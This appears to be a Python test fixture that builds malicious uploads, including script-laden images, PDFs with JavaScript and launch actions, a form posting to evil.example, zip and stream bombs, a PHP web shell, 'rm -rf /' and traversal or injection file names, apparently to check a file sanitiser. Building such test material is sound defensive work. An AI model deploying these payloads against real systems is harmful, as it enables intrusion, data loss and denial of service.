"""Files that were made to hurt: each carries MARK where it must not survive. `ok` says whether a harmless rest of it may be kept."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

MARK = b"KUULUU-HOSTILE"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"


@dataclass(frozen=True)
class Hostile:
    """`kept`: a harmless picture or document is left when what is hostile is taken out; otherwise the file is refused."""

    name: str
    file: str
    content: bytes
    kept: bool = False
    type: str = "image/jpeg"


def picture(form: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    target = io.BytesIO()
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    image.save(target, form, **options)
    return target.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(more) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def png_with(*more: bytes) -> bytes:
    return png(8, 8, (b"\x00" + b"\x80" * 24) * 8, *more)


def archive() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/document.xml", SCRIPT)
        made.writestr("bomb", b"\0" * 20_000_000)
    return target.getvalue()


def jpeg_segment(marker: int, data: bytes) -> bytes:
    """A JPEG whose second segment is this one."""
    whole = picture("JPEG")
    return whole[:2] + struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data + whole[2:]


def huge_jpeg() -> bytes:
    whole = bytearray(picture("JPEG"))
    start = whole.index(b"\xff\xc0")
    whole[start + 5 : start + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(whole)


def exif() -> bytes:
    facts = Image.Exif()
    facts[0x010E] = SCRIPT.decode()
    facts[0x0112] = 6
    facts.get_ifd(0x8825)[1] = "N"
    facts.get_ifd(0x8825)[2] = (60.0, 58.0, 57.6)
    return facts.tobytes()


def animated(form: str) -> bytes:
    target = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), colour) for colour in ("red", "blue")]
    frames[0].save(target, form, save_all=True, append_images=frames[1:])
    return target.getvalue() + SCRIPT


def paper(change: Callable[[pikepdf.Pdf], object], pages: int = 1, **options: object) -> bytes:
    pdf = pikepdf.Pdf.new()
    for _page in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    target = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)  # a broken form is what we want here
        pdf.save(target, **options)
    return target.getvalue()


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more)


def mark_with(pdf: pikepdf.Pdf, act: pikepdf.Dictionary, kind: str = "Link", **more: object) -> None:
    mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + kind), Rect=[0, 0, 9, 9], A=act, **more)
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(mark)])


def script(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return action("JavaScript", JS=pikepdf.String("app.alert('KUULUU-HOSTILE')"))


def run_on_open(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/OpenAction"] = script(pdf)
    pdf.Root["/Names"] = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script(pdf)]))


def page_acts(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=script(pdf))
    pdf.Root["/AA"] = pikepdf.Dictionary(WC=script(pdf))


def file_inside(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = b"MZ" + MARK


def form_that_sends(pdf: pikepdf.Pdf) -> None:
    send = action("SubmitForm", F=pikepdf.String("https://evil.example/KUULUU-HOSTILE"))
    field = pdf.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Btn, T=pikepdf.String("x"), A=send))
    pdf.Root["/AcroForm"] = pikepdf.Dictionary(Fields=[field], XFA=pdf.make_stream(SCRIPT))
    mark_with(pdf, send, "Widget")


def chained(pdf: pikepdf.Pdf) -> None:
    """A harmless action, and a harmful one after it, as deep as the reader would go."""
    last = script(pdf)
    for _step in range(5):
        last = action("GoTo", D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=pikepdf.Array([last]))
    mark_with(pdf, last)


def heading_acts(pdf: pikepdf.Pdf) -> None:
    entry = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("x"), A=action("Launch", F=pikepdf.String("KUULUU-HOSTILE.exe"))))
    pdf.Root["/Outlines"] = pdf.make_indirect(pikepdf.Dictionary(First=entry, Last=entry, Count=1))


def named_author(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Author"] = MARK.decode()
    with pdf.open_metadata() as facts:
        facts["dc:creator"] = [MARK.decode()]


def nested(pdf: pikepdf.Pdf) -> None:
    inner = pikepdf.Dictionary(A=script(pdf))
    for _level in range(90):
        inner = pikepdf.Dictionary(K=inner)
    pdf.Root["/ViewerPreferences"] = inner


def stream_bomb() -> bytes:
    """An object stream of some thousand bytes that unpacks to two thousand million."""
    layer = zlib.compress(b"\0" * 200_000_000, 9)
    layer = zlib.compress(layer, 9)
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    start = len(body)
    body += b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(layer)
    body += layer + b"\nendstream endobj\n"
    table = struct.pack(">BHB", 0, 0, 0) + struct.pack(">BHB", 1, 9, 0) + struct.pack(">BHB", 2, 5, 0) * 1
    place = len(body)
    body += b"6 0 obj<</Type/XRef/W[1 2 1]/Index[0 3]/Size 7/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % place + b"%" + str(start).encode()


JPEG = picture("JPEG")
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PDF_TYPE = "application/pdf"


def strangers() -> Iterator[Hostile]:
    """What is no picture and no document, whatever it is called."""
    yield Hostile("empty", "kuva.jpg", b"")
    yield Hostile("html-as-jpeg", "kuva.jpg", HTML)
    yield Hostile("svg-as-png", "kuva.png", SVG, type="image/png")
    yield Hostile("svg", "kuva.svg", SVG, type="image/svg+xml")
    yield Hostile("svg-with-a-jpegs-type", "kuva.svg", b"<?xml version='1.0'?>" + SVG)
    yield Hostile("program-as-pdf", "asia.pdf", b"MZ\x90\x00" + MARK, type=PDF_TYPE)
    yield Hostile("program-before-pdf", "asia.pdf", b"MZ\x90\x00" + paper(lambda pdf: None), type=PDF_TYPE)
    yield Hostile("zip-bomb-as-png", "kuva.png", archive(), type="image/png")
    yield Hostile("document-as-pdf", "asia.pdf", archive(), type=PDF_TYPE)
    yield Hostile("gif", "kuva.gif", picture("GIF"), type="image/gif")
    yield Hostile("gifar", "kuva.jpg", picture("GIF") + archive())
    yield Hostile("bmp-as-png", "kuva.png", picture("BMP"), type="image/png")
    yield Hostile("tiff-as-jpeg", "kuva.jpg", picture("TIFF"))
    yield Hostile("postscript-as-jpeg", "kuva.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) system\n" + MARK)
    yield Hostile("film-as-jpeg", "kuva.jpg", b"\x00\x00\x00\x18ftypmp42" + MARK)
    yield Hostile("heic", "kuva.heic", b"\x00\x00\x00\x18ftypheic" + MARK, type="image/heic")
    yield Hostile("sound-as-webp", "kuva.webp", b"RIFF\x24\x00\x00\x00WAVEfmt " + MARK, type="image/webp")
    yield Hostile("shell-as-jpeg", "kuva.jpg", b"#!/bin/sh\nrm -rf /\n" + MARK)
    yield Hostile("php-as-jpeg", "kuva.jpg", b"<?php system($_GET['x']); ?>" + MARK)
    yield Hostile("nothing-but-the-mark", "kuva.jpg", b"\xff\xd8\xff")
    yield Hostile("too-large", "kuva.jpg", JPEG + b"\0" * (10 * 1024 * 1024))


def pictures() -> Iterator[Hostile]:
    yield Hostile("png-cut-off", "kuva.png", picture("PNG", (300, 300))[:200], type="image/png")
    yield Hostile("png-no-data", "kuva.png", b"\x89PNG\r\n\x1a\n" + MARK, type="image/png")
    yield Hostile("png-wrong-checksum", "kuva.png", picture("PNG").replace(b"IDAT", b"IDAX", 1), type="image/png")
    yield Hostile("png-of-2500-million-dots", "kuva.png", png(50_000, 50_000, b"\0"), type="image/png")
    yield Hostile("png-widest", "kuva.png", png(0x7FFFFFFF, 1, b"\0"), type="image/png")
    yield Hostile("png-60-million-dots", "kuva.png", png(10_000, 6_000, b"\0" * 100), type="image/png")
    yield Hostile("png-that-unpacks-to-more", "kuva.png", png(8, 8, b"\x00" * 60_000_000), kept=True, type="image/png")
    yield Hostile("png-text", "kuva.png", png_with(chunk(b"tEXt", b"Comment\0" + SCRIPT)), kept=True, type="image/png")
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(MARK * 8_000_000))
    yield Hostile("png-text-bomb", "kuva.png", png_with(bomb), type="image/png")
    profile = chunk(b"iCCP", b"icc\0\0" + zlib.compress(SCRIPT))
    yield Hostile("png-profile-is-a-script", "kuva.png", png_with(profile), kept=True, type="image/png")
    yield Hostile("png-and-a-page-behind-it", "kuva.png", picture("PNG") + HTML, kept=True, type="image/png")
    yield Hostile("png-two-frames", "kuva.png", animated("PNG"), kept=True, type="image/png")
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    yield Hostile("png-xmp", "kuva.png", picture("PNG", pnginfo=info), kept=True, type="image/png")
    yield Hostile("jpeg-exif-script-and-place", "kuva.jpg", picture("JPEG", exif=exif()), kept=True)
    yield Hostile("jpeg-comment", "kuva.jpg", picture("JPEG", comment=SCRIPT), kept=True)
    yield Hostile("jpeg-profile-is-a-script", "kuva.jpg", picture("JPEG", icc_profile=SCRIPT), kept=True)
    yield Hostile("jpeg-page-in-its-head", "kuva.html", jpeg_segment(0xFE, HTML), kept=True, type="text/html")
    yield Hostile("jpeg-xmp", "kuva.jpg", jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT), kept=True)
    yield Hostile("jpeg-and-an-archive-behind-it", "kuva.jpg", JPEG + archive(), kept=True)
    yield Hostile("jpeg-cut-off", "kuva.jpg", picture("JPEG", (600, 600))[:900])
    yield Hostile("jpeg-of-4000-million-dots", "kuva.jpg", huge_jpeg())
    yield Hostile("jpeg-exif-broken", "kuva.jpg", jpeg_segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + MARK), kept=True)
    yield Hostile("webp-exif-and-xmp", "kuva.webp", picture("WEBP", exif=exif(), xmp=SCRIPT), kept=True, type="image/webp")
    yield Hostile("webp-two-frames", "kuva.webp", animated("WEBP"), kept=True, type="image/webp")
    yield Hostile("webp-cut-off", "kuva.webp", picture("WEBP", (300, 300))[:60], type="image/webp")
    yield Hostile("webp-no-data", "kuva.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + MARK, type="image/webp")


def papers() -> Iterator[Hostile]:
    def made(name: str, change: Callable[[pikepdf.Pdf], object], **options: object) -> Hostile:
        return Hostile(f"pdf-{name}", "asia.pdf", paper(change, **options), kept=True, type=PDF_TYPE)

    yield made("script-on-open", run_on_open)
    yield made("acts-on-its-pages", page_acts)
    yield made("file-inside", file_inside)
    yield made("form-that-sends", form_that_sends)
    yield made("link-that-launches", lambda pdf: mark_with(pdf, action("Launch", F=pikepdf.String("KUULUU-HOSTILE.exe"))))
    yield made("link-that-is-a-script", lambda pdf: mark_with(pdf, action("URI", URI=pikepdf.String("javascript:KUULUU-HOSTILE"))))
    yield made("link-to-another-file", lambda pdf: mark_with(pdf, action("GoToR", F=pikepdf.String("\\\\evil\\KUULUU-HOSTILE"))))
    yield made("chained-actions", chained)
    yield made("heading-that-launches", heading_acts)
    yield made("file-pinned-to-the-page", lambda pdf: mark_with(pdf, script(pdf), "FileAttachment"))
    yield made("film", lambda pdf: mark_with(pdf, script(pdf), "RichMedia"))
    yield made("name-of-its-author", named_author)
    yield made("nested", nested)
    yield made("objects-packed", run_on_open, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    whole = paper(lambda pdf: None)
    yield Hostile("pdf-and-an-archive-behind-it", "asia.pdf", whole + archive(), kept=True, type=PDF_TYPE)
    yield Hostile("pdf-and-a-page-behind-it", "asia.html", whole + HTML, kept=True, type="text/html")
    yield Hostile("pdf-locked", "asia.pdf", paper(run_on_open, encryption=pikepdf.Encryption(user="x", owner="y")), type=PDF_TYPE)
    yield Hostile("pdf-cut-off", "asia.pdf", whole[:60], type=PDF_TYPE)
    yield Hostile("pdf-of-a-page-of-html", "asia.pdf", b"%PDF-1.7\n" + HTML, type=PDF_TYPE)
    yield Hostile("pdf-201-pages", "asia.pdf", paper(lambda pdf: None, pages=201), type=PDF_TYPE)
    yield Hostile("pdf-without-pages", "asia.pdf", paper(lambda pdf: None, pages=0), type=PDF_TYPE)
    yield Hostile("pdf-bomb", "asia.pdf", stream_bomb(), type=PDF_TYPE)


def names() -> Iterator[Hostile]:
    """Harmless content under names that are not."""
    for number, name in enumerate(
        (
            "kuva.php.jpg", "../../../etc/passwd.jpg", "..\\..\\boot.jpg", "kuva\u202egpj.exe", "kuva.jpg\x00.php", "/etc/shadow",
            "<img src=x onerror=alert(1)>.jpg", "a" * 300 + ".jpg", "CON.jpg", ".htaccess",
            "kuva\r\nSet-Cookie: a=b.jpg", "'; DROP TABLE x;--.jpg",
        )
    ):  # fmt: skip
        yield Hostile(f"name-{number}", name, JPEG, kept=True)


EVERY = [*strangers(), *pictures(), *papers(), *names()]
